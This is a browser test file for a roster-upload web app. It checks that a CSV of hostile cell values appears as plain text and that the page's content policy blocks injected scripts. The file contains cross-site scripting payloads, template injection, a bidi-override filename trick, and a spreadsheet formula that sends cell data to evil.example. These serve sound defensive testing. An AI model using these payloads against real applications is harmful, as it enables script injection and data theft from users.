// A sheet that attacks whoever looks at it, and words of other scripts.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Service, directory, openBrowser, openPage, signIn, upload } from "./desk.mjs";

const attacks = [
  `<script>document.title='owned'</script>`,
  `<img src=x onerror="document.title='owned'">`,
  `"><svg onload=document.title='owned'>`,
  `=HYPERLINK("http://evil.example/?"&A1;"x")`,
  `javascript:document.title='owned'`,
  `\u202Egnp.exe\u202C`,
  `مرحبا שלום`,
  `{{constructor.constructor('document.title=1')()}}`,
  `' onmouseover='document.title=1`,
];
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
const sheet = "Email,First name,Last name,Location\n" +
  attacks.map((attack, at) => `u${at}@x.co,${quoted(attack)},L,${quoted(attack)}`).join("\n") + "\n";

let service;
let browser;
before(async () => {
  service = await Service.start({ ...directory,
    teams: [{ name: "<b onclick=document.title=1>Team" }, ...directory.teams] });
  browser = await openBrowser();
});
after(async () => {
  await browser?.close();
  await service?.stop();
});

test("a hostile sheet is text wherever it is shown", async () => {
  const page = await openPage(browser);
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  await signIn(page, service);
  await upload(page, service, "<img src=x onerror=alert(1)>.csv".replaceAll(/[<>]/g, "_"), sheet);
  await page.getByText("Waits for review").first().waitFor();
  const grid = page.getByRole("grid", { name: "Rows of the file" });
  await grid.getByText("<script>", { exact: false }).first().waitFor();
  await page.getByRole("tab", { name: "Plan" }).click();
  await page.waitForTimeout(300);
  await page.getByRole("tab", { name: "Review" }).click();
  await grid.getByText("<script>", { exact: false }).first().click();

  assert.match(await page.title(), /Rollcall/);
  assert.equal(await page.locator("main script, main img:not([role]), main svg[onload], main [onerror], main [onload], main [onmouseover], main [onclick]").count(), 0);
  for (const url of asked) assert.ok(url.startsWith(service.url), url);
  // What turns the direction of writing is shown, not obeyed.
  assert.match(await grid.innerText(), /U\+202E/);
  for (const one of await grid.getByRole("gridcell").all())
    if (/مرحبا/.test(await one.innerText()))
      assert.notEqual(await one.evaluate((element) => {
        const holds = [element, ...element.querySelectorAll("*")];
        return holds.some((part) => part.dir === "auto" ||
          getComputedStyle(part).unicodeBidi.includes("isolate") ||
          getComputedStyle(part).unicodeBidi === "plaintext");
      }), false);
  assert.deepEqual(page.wrongs, []);
  await page.context().close();
});

test("the page's policy lets no script in but its own", async () => {
  const page = await openPage(browser);
  await page.goto(service.url + "/");
  const violation = await page.evaluate(() => new Promise((done) => {
    document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "document.title = 'owned'";
    document.body.append(script);
    setTimeout(() => done("none"), 1000);
  }));
  assert.match(violation, /script-src/);
  assert.notEqual(await page.title(), "owned");
  await page.context().close();
});
